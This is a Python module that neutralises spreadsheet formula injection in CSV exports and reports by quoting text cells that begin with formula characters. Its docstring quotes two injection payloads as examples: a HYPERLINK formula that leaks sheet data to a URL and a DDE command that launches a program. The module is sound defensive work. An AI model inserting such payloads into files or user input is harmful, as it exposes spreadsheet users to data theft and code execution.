"""Cells written into the files the project makes for Excel and WPS (CSV exports and reports).

A text cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
spreadsheets skip before looking) is run as a formula when the file is opened: a station name
sent as ``=HYPERLINK("http://…?"&A1, "详情")`` would leak the sheet, ``+cmd|' /C calc'!A0``
would ask to start a program (DDE). Following OWASP's advice on CSV injection
(owasp.org/www-community/attacks/CSV_Injection), such a cell gets a leading single quote, which
makes the spreadsheet show it as text.

Only the outputs are neutralised: stored values stay exactly as they were sent, and the API
returns them so. Numbers are never touched, neither numeric values (a negative demand weight)
nor text that is a plain decimal number ("-114.0579" in a rejected row): a number cannot run as
a formula, and prefixing it would stop a fixed rejects report from importing again.
"""

import re
from collections.abc import Iterable

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value):
    """``value`` as it may be written into a spreadsheet cell.

    >>> safe_cell("=1+2"), safe_cell("-114.05"), safe_cell(-2.5), safe_cell("福田区")
    ("'=1+2", '-114.05', -2.5, '福田区')
    """
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(values: Iterable) -> list:
    return [safe_cell(value) for value in values]
